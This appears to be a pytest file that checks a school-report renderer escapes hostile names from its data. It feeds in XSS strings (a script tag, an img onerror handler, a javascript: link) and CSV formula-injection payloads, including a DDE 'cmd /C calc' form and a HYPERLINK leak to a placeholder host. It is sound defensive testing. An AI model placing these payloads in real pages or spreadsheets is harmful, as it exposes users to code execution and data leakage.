"""Published output is inert: text from the data never runs as HTML, Markdown or a formula.

A hostile (or unlucky) export names a resource base ``<script>...``, an instrument
``<img onerror=...>``, a subject as a Markdown link to ``javascript:`` and an exit reason
as a spreadsheet formula. Every report that shows those names is rendered and its HTML
and result tables are searched for any of them in a live form.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
import yaml

from srb_eval.run.render import render

from .conftest import DEMO

pytestmark = pytest.mark.slow

SRB_NAME = '<script>alert("srb")</script> SRB'
INSTRUMENT = "<img src=x onerror=alert(1)>"
SUBJECT = "[maths](javascript:alert(2))"
EXIT_REASONS = ['=HYPERLINK("http://example.invalid/?leak","click")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def _replace(path: Path, column: str, old: str | None, new: str | list[str],
             rows: int | None = None):
    with path.open(newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))
    i = table[0].index(column)
    values = [new] if isinstance(new, str) else new
    for n, row in enumerate(table[1:]):
        if (old is None or row[i] == old) and (rows is None or n < rows):
            row[i] = values[n % len(values)]
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f, lineterminator="\n").writerows(table)


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    data = tmp / "data"
    shutil.copytree(DEMO, data)
    _replace(data / "srbs.csv", "name", "Ysgol Tywod Primary SRB", SRB_NAME)
    _replace(data / "instruments.csv", "instrument", "Small Steps Tracker", INSTRUMENT)
    _replace(data / "assessments.csv", "instrument", "Small Steps Tracker", INSTRUMENT)
    _replace(data / "inclusion.csv", "subject", "mathematics", SUBJECT)
    _replace(data / "placements.csv", "exit_reason", None, EXIT_REASONS, rows=40)
    params = tmp / "run.yaml"
    params.write_text(yaml.safe_dump({"data_dir": str(data), "reports": [
        {"notebook": n, "parameters": {"audience": a}, "name": f"{n}__{a}"}
        for n, a in [("10_learner_progress", "published"), ("20_inclusion", "published"),
                     ("20_inclusion", "internal"), ("30_estyn_outcomes", "published"),
                     ("40_capacity", "published"), ("45_value_for_money", "published")]]}))
    out = tmp / "out"
    render(params, out=out, progress=False)
    return out


def test_names_from_the_data_reach_html_only_as_text(rendered: Path):
    pages = sorted(rendered.rglob("*.html"))
    assert len(pages) == 8  # six reports, the index and the published folder's index
    shown = 0
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text, page.name
        assert "<img src=x" not in text, page.name
        assert not re.search(r"href=[\"']?\s*javascript:", text, re.I), page.name
        shown += text.count("&lt;script&gt;alert") + text.count("&lt;img src=x")
    assert shown > 0, "the hostile names should still be shown, as text"


def test_result_tables_hold_no_formula(rendered: Path):
    tables = sorted(rendered.rglob("*.csv"))
    assert tables
    for table in tables:
        with table.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "@", "+", "\t", "\r")) or re.fullmatch(
                        r"[+-]?[\d.]+(e[+-]?\d+)?", cell), (table.name, cell)
                    assert not (cell.startswith("-") and not re.fullmatch(
                        r"-[\d.]+(e[+-]?\d+)?", cell)), (table.name, cell)
